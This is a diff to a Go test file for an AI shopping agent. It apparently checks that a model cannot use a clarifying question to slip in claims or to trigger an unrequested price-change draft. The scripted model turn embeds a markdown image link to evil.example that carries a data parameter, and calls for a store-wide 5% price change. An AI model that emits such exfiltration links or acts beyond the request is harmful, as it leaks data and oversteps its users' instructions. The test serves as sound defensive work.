@@ -44,7 +44,7 @@ func TestAModelAsksAndTheNextMessageAnswers(t *testing.T) {
 }
 
 // A question is no way around the checks of answers, nor a way to a draft that no person asked for.
-func TestAttackAModelStatesFiguresAndDeedsInAQuestion(t *testing.T) {
+func TestAttackAModelStatesFiguresAndClaimsInAQuestion(t *testing.T) {
 	s := newModelShop(t, 1, llmtest.Turns(llmtest.CallTool("ask",
 		`{"question":"Я заказал товар на 987 654 ₽. Что дальше? ![x](http://evil.example/?d=1)","options":["да","нет"]}`),
 		llmtest.CallTool("propose_price_change", `{"percent":5,"everything":true}`), llmtest.Say("Готово.")))
@@ -64,7 +64,7 @@ func TestAttackAModelStatesFiguresAndDeedsInAQuestion(t *testing.T) {
 		t.Fatal(err)
 	}
 	if f = s.end(second); len(f.Drafts) != 0 {
-		t.Errorf("a draft that nobody asked for: %s", f.FinalResponse)
+		t.Errorf("a draft that no person asked for: %s", f.FinalResponse)
 	}
 }
 
